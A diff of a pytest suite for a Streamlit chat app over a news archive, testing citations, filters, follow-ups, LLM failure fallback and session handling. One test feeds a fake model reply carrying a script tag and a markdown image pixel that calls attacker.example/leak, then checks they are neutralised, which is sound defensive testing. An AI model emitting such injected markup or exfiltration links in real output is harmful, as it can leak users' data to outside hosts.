@@ -1,21 +1,129 @@
-"""The Streamlit app driven by `streamlit.testing.v1.AppTest` (real archive, real model)."""
+"""The Streamlit chat driven by `streamlit.testing.v1.AppTest`: real archive, real model, scripted LLM server."""
 
 from __future__ import annotations
 
+import json
+from pathlib import Path
+
+import pytest
+from fake_openai import FakeOpenAIServer
 from streamlit.testing.v1 import AppTest
 
-from rag.config import PROJECT_ROOT
+from rag.archive import Archive
+from rag.config import PROJECT_ROOT, load_settings
+from rag.ingest import ingest_paths
 
 APP = str(PROJECT_ROOT / "app.py")
+DRONES = "How many drones did Sergei Shoigu say Ukraine used?"
 
 
-def test_app_seeds_itself_and_answers_with_citations() -> None:
+def start() -> AppTest:
     at = AppTest.from_file(APP, default_timeout=120)
     at.run()
     assert not at.exception
-    assert "1 articles" in at.caption[0].value
-    at.chat_input[0].set_value("How many drones did Sergei Shoigu say Ukraine used?").run()
+    return at
+
+
+def ask(at: AppTest, question: str) -> AppTest:
+    at.chat_input[0].set_value(question).run()
     assert not at.exception
-    texts = " ".join(m.value for m in at.markdown)
-    assert "eight drones" in texts and "[1]" in texts
-    assert any("[1]" in e.label for e in at.expander)
+    return at
+
+
+def page_text(at: AppTest) -> str:
+    return "\n".join(m.value for m in at.markdown)
+
+
+def test_seed_question_is_answered_with_cited_sources() -> None:
+    at = start()
+    assert "1** article from" in at.sidebar.markdown[0].value
+    at = ask(at, DRONES)
+    text = page_text(at)
+    assert "eight drones" in text and "[1]" in text
+    assert "**Sources**" in text and "**[1] Vladimir Putin has vowed" in text
+    assert ":orange-background[" in text  # the cited sentence is highlighted in the passage
+    assert any(e.label == "Show in the article" for e in at.expander)
+    assert [c.value for c in at.chat_message[0].markdown][0].startswith("How many drones")
+    assert len(at.get("download_button")) == 1
+
+
+def test_empty_state_offers_three_clickable_questions_from_the_archive() -> None:
+    at = start()
+    assert "article in your archive" in page_text(at)
+    examples = [b for b in at.button if b.key and b.key.startswith("example-")]
+    assert len(examples) == 3
+    label = examples[0].label
+    examples[0].click().run()
+    assert not at.exception
+    assert at.chat_message[0].markdown[0].value.replace("\\", "") == label
+    assert "**Sources**" in page_text(at)
+
+
+def test_follow_up_is_rewritten_and_shown() -> None:
+    at = ask(start(), "What did Putin say about Moscow's anti-air defences?")
+    at = ask(at, "and what did the mayor say?")
+    captions = [c.value for c in at.caption]
+    assert any(c.startswith("Searched the archive for:") and "following up on" in c for c in captions)
+    assert "Sobyanin" in page_text(at)
+    assert len(at.chat_message) == 4
+
+
+def test_outlet_and_date_filters_apply_to_retrieval(tmp_path: Path) -> None:
+    extra = tmp_path / "gazette.jsonl"
+    extra.write_text(json.dumps({
+        "title": "Harbour bridge reopens", "source": "Port Gazette", "published_at": "2024-03-04",
+        "url": "https://gazette.example/bridge",
+        "body": "The harbour bridge reopened on Monday after a two-year refit, the city council said.",
+    }) + "\n")
+    settings = load_settings()
+    assert ingest_paths(Archive(settings), [PROJECT_ROOT / "seeds", extra]).ok
+    at = start()
+    at.sidebar.multiselect[0].select("Port Gazette").run()
+    at = ask(at, DRONES)
+    assert "does not cover" in page_text(at)  # the seed article is not from Port Gazette
+    at.sidebar.multiselect[0].unselect("Port Gazette").run()
+    at.sidebar.checkbox[0].check().run()
+    assert not at.exception
+    at = ask(at, "When did the harbour bridge reopen?")
+    assert "reopened on Monday" in page_text(at)
+
+
+def test_failing_llm_endpoint_falls_back_to_quotes_without_a_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
+    with FakeOpenAIServer(fail_with=503) as server:
+        monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
+        monkeypatch.setenv("NEWSROOM_CHAT_MODEL", "fake-model")
+        at = start()
+        assert "fake-model" in " ".join(c.value for c in at.sidebar.caption)
+        at = ask(at, DRONES)
+    assert "failed" in at.warning[0].value and "quoted sentences" in at.warning[0].value
+    assert "eight drones" in page_text(at)
+    assert not at.exception and not at.error
+
+
+def test_llm_answer_streams_in_and_unsafe_model_text_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
+    reply = ("Shoigu said Ukraine used eight drones [1]. <script>alert(1)</script> "
+             "![pixel](https://attacker.example/leak?q=x) [more](https://evil.example/) [1]")
+    with FakeOpenAIServer(reply=reply) as server:
+        monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
+        monkeypatch.setenv("NEWSROOM_CHAT_MODEL", "fake-model")
+        at = ask(start(), DRONES)
+        assert server.requests[-1]["stream"] is True
+    text = page_text(at)
+    assert "eight drones [1]" in text
+    assert "attacker.example" not in text and "evil.example" not in text
+    assert "<script>" not in text and "\\<script\\>" in text
+    assert any("passages from 1 article" in s.label for s in at.status)
+
+
+def test_two_sessions_do_not_share_history() -> None:
+    first = ask(start(), DRONES)
+    second = start()
+    assert len(first.chat_message) == 2
+    assert len(second.chat_message) == 0
+    assert "article in your archive" in page_text(second)
+
+
+def test_new_conversation_clears_the_history() -> None:
+    at = ask(start(), DRONES)
+    next(b for b in at.sidebar.button if b.label == "New conversation").click().run()
+    assert len(at.chat_message) == 0
